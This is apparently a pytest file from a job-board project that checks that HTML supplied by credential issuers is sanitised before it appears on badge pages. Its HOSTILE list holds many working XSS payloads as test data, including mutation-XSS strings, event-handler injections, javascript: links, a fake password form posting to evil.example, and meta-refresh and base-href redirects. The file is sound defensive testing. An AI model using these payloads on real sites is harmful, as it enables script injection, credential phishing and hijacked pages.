"""What an issuer wrote in HTML is hostile: its text and structure reach a page, in a frame, beside the whole badge."""

import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from jobboard.credentials import BadgeFacts, CheckResult, Display, Family, Judgement, Outcome, Report
from jobboard.models import Verification
from jobboard.web.presenters.presentation import presentation_of
from tests.web.test_revealing import World

ALLOWED = {"b", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "hr", "i", "li", "ol", "p", "pre", "strong"}
ALLOWED |= {"sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul"}
PASSED, FAILED, UNKNOWN = Outcome.PASSED, Outcome.FAILED, Outcome.UNKNOWN

HOSTILE = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg class="badge-state__icon badge-state__icon--tick"><path d="m5 12.5"/></svg>',
    '<span class="badge-state badge-state--verified" id="main" style="position:fixed;inset:0">Verified</span>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    '<form action="//evil.example"><input name=password type=password><button formaction=x>Sign in</button></form>',
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a><a href=//evil.example>y</a><img src=x onerror=alert(1)>",
    "<p lang=ar dir=rtl title=x hx-get=/account hx-trigger=load data-x=1 aria-label='Verified' role=status>x</p>",
    "</blockquote></section></main><h1>Verified</h1><main><h2 id=presented>What was checked</h2>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea><xmp><p title='</xmp><img src>'>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)><summary>Technical detail</summary></details><dialog open>x</dialog>",
    "<plaintext><p>x",
    "\u202eabc\u2066 &#8238;def&#x2066; \x00\x08",
    "<b>" * 590,
]


class Tags(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self.open, self.text = [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, attributes))
        self.open += [] if tag in ("br", "hr") else [tag]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data


def report(now, html="<p>Hello</p>", kind="text/html", **outcomes):
    outcomes = dict.fromkeys(("integrity", "issuer", "standing", "recipient"), PASSED) | outcomes
    checks = [CheckResult("anchor.good", Judgement(name), outcome) for name, outcome in outcomes.items()]
    facts = BadgeFacts(Family.BLOCKCERTS, "urn:1", "Baking", "https://u.example", display=Display(kind, html))
    return Report(now, "0" * 64, "urn:1", tuple(checks), facts, issuer_level=2)


def content(now, html, **options):
    return presentation_of(report(now, html, **options)).content


@pytest.mark.parametrize("html", HOSTILE)
def test_only_text_and_its_structure_is_left(html, now):
    left = content(now, f"<p>Before</p>{html}") or ""
    tags = Tags(left)
    assert {tag for tag, _ in tags.found} <= ALLOWED
    assert all(not attributes for _, attributes in tags.found)
    assert tags.open == []
    assert re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08]", tags.text) is None
    assert "Before" in left


def test_what_an_issuer_means_is_kept(now):
    html = "<section><h2 style='color:red'>Diploma</h2><p>For <strong>baking</strong> &amp; more</p><ul><li>x</li></ul>"
    expected = "<div><div>Diploma</div><p>For <strong>baking</strong> &amp; more</p><ul><li>x</li></ul></div>"
    assert content(now, html) == expected


@pytest.mark.parametrize("kind", ["text/plain", "text/markdown"])
def test_a_text_without_html_is_shown_as_it_is_written(kind, now):
    assert content(now, "<b>1</b>\n# x", kind=kind) == "&lt;b&gt;1&lt;/b&gt;\n# x"


def test_short_texts_that_make_long_ones_are_not_shown(now):
    formats = "".join(f"<b x={number}>" for number in range(290))
    assert content(now, "<p>x</p>" + "<div>" * 600) is None
    assert content(now, f"<p>{formats}</p>" + "<p>x</p>" * 150) is None


@pytest.mark.parametrize("html", [None, "", " ", "<img src=x>", "<script>x</script>"])
def test_what_has_no_text_is_told_by_its_kind(html, now):
    assert content(now, html) is None


@pytest.mark.parametrize("judgement", ["integrity", "issuer"])
@pytest.mark.parametrize("outcome", [FAILED, UNKNOWN])
def test_what_is_not_proven_to_be_the_issuer_s_is_not_shown(judgement, outcome, now):
    assert presentation_of(report(now)) is not None
    assert presentation_of(report(now, **{judgement: outcome})) is None


def test_a_badge_without_it_shows_none(now):
    found = report(now)
    assert presentation_of(None) is None
    assert presentation_of(replace(found, facts=None)) is None
    assert presentation_of(replace(found, facts=replace(found.facts, display=None))) is None


def test_it_is_shown_to_the_holder_and_where_all_of_the_badge_is_shown(app, database, now):
    world = World(app, database)
    html = "<h1 class='badge-state'>Canary of Morag</h1><script>alert(1)</script>"
    with database.writing() as session:
        kept = json.dumps(report(now, html).to_json())
        session.add(Verification(badge_id=world.badge.id, checked_at=now, state="verified", report=kept))
    frame = '<blockquote class="presentation" aria-labelledby="presented"><div>Canary of Morag</div></blockquote>'
    assert frame in world.holder.get(f"/badges/{world.badge.public_id}").body.decode()
    assert "Canary" not in world.employer.get(world.path).body.decode()
    world.apply()
    page = world.employer.get(world.path)
    assert frame in page.body.decode()
    assert "nothing it says was checked" in page.text
    assert "Canary" not in world.other.get(world.path).body.decode()
